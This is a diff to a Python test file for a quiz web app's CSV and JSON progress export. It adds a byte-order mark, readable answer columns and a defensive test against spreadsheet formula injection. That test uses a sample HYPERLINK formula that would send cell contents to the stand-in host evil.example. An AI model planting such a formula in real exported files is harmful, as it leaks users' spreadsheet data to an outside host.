@@ -13,6 +13,7 @@ from sqlalchemy import func, select
 
 from quizapp.extensions import db
 from quizapp.models import Attempt, User, utcnow
+from quizapp.progress import spreadsheet_safe
 from quizapp.services.attempts import start_questions
 from quizapp.services.review import REVIEW_TITLE
 
@@ -172,17 +173,28 @@ def test_export_csv_and_json_hold_my_data_only(browser, client, app):
     for kind, response in files.items():
         assert response.status_code == 200 and response.mimetype == "text/csv"
         assert f'filename="quizapp-{kind}.csv"' in response.headers["Content-Disposition"]
-    rows = {kind: list(csv.DictReader(io.StringIO(r.get_data(as_text=True)))) for kind, r in files.items()}
+    texts = {kind: response.get_data(as_text=True) for kind, response in files.items()}
+    assert all(text.startswith("\ufeff") for text in texts.values())  # so that spreadsheets read UTF-8
+    rows = {
+        kind: list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))) for kind, text in texts.items()
+    }
     assert [r["title"] for r in rows["attempts"]] == ["Practice all"]
     assert rows["attempts"][0]["state"] == "finished" and rows["attempts"][0]["score"] == "5.0"
     assert [r["question"] for r in rows["answers"]] == [f"q{i}" for i in range(1, 9)]
-    assert json.loads(rows["answers"][3]["response"]) == {"text": "Sydney"}
+    # Answers as the taker gave them, in words: never the bank positions a response is stored as.
+    assert [r["answer"] for r in rows["answers"]][3:7] == [
+        "Sydney",
+        "2010",
+        "1. third 5\n2. second 5\n3. first 5",
+        "l0 6 → r0 6\nl1 6 → r1 6\nl2 6 → r2 6",
+    ]
+    assert rows["answers"][0]["prompt"] and rows["answers"][3]["fraction"] == "0.0"
     assert [r["rating"] for r in rows["reviews"]][1::2] == ["again"] * 4
 
     everything = json.loads(download(browser, "/progress/export.json").get_data(as_text=True))
     assert set(everything) == {"exported_at", "attempts", "answers", "reviews"}
     assert len(everything["answers"]) == 8 and len(everything["reviews"]) == 8
-    assert everything["answers"][0]["response"] == {"choice": 0}
+    assert everything["answers"][0]["answer"] == "right 0"
     assert download(browser, "/progress/export/secrets.csv").status_code == 404
 
     stranger = Browser(app.test_client())
@@ -192,9 +204,34 @@ def test_export_csv_and_json_hold_my_data_only(browser, client, app):
     assert theirs["answers"] == [] and theirs["reviews"] == []
     assert "Practice all" not in stranger.get("/progress").text
     nobody = Browser(app.test_client())
-    assert download(nobody, "/progress/export/answers.csv").get_data(as_text=True).strip() == ",".join(
-        ["answer_id", "attempt_id", "question", "question_version", "answered_at", "fraction", "response"]
+    assert download(nobody, "/progress/export/answers.csv").get_data(
+        as_text=True
+    ).strip() == "\ufeff" + ",".join(
+        [
+            "answer_id",
+            "attempt_id",
+            "question",
+            "question_version",
+            "prompt",
+            "answered_at",
+            "fraction",
+            "answer",
+        ]
     )
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(browser):
+    practise_all(browser)
+    title = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    db.session.scalars(select(Attempt)).one().title = title
+    db.session.commit()
+    text = download(browser, "/progress/export/attempts.csv").get_data(as_text=True)
+    (row,) = csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))
+    assert row["title"] == "'" + title
+    assert row["score"] == "5.0"  # numbers stay numbers
+    for dangerous in ("+1", "-1", "@SUM(A1)", "\tx", "\rx"):
+        assert spreadsheet_safe(dangerous) == "'" + dangerous
+    assert spreadsheet_safe("Practice all") == "Practice all" and spreadsheet_safe(-1.5) == -1.5
 
 
 def test_history_is_paginated_newest_first(browser):
